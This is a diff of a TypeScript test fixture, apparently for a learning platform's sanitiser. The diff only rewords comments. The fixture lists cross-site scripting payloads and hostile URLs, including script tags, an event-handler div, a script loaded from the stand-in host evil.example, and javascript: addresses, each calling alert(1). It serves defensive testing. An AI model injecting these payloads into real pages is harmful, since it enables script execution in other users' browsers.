@@ -1,9 +1,9 @@
 /**
- * What an attacker with a stolen token may write into a workspace to run code in a learner's browser: the attacks of the common
- * collections, and those that came through sanitisers before. Whatever runs calls `alert(1)`.
+ * Content with which an attacker with a stolen token could try to run code in a learner's browser: common XSS payloads, and known bypasses of
+ * sanitisers. A successful attack calls `alert(1)`.
  */
 
-/** Markup, wherever text may stand. */
+/** Markup for any text field. */
 export const HOSTILE_MARKUP: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
@@ -105,7 +105,7 @@ export const HOSTILE_MARKUP: readonly string[] = [
   '<div data-language="x" onclick="alert(1)" aria-label="x" role="button" tabindex="1">x</div>',
 ]
 
-/** Addresses that must never become one that a browser follows or loads. */
+/** URLs that a browser must never follow or load. */
 export const HOSTILE_ADDRESSES: readonly string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
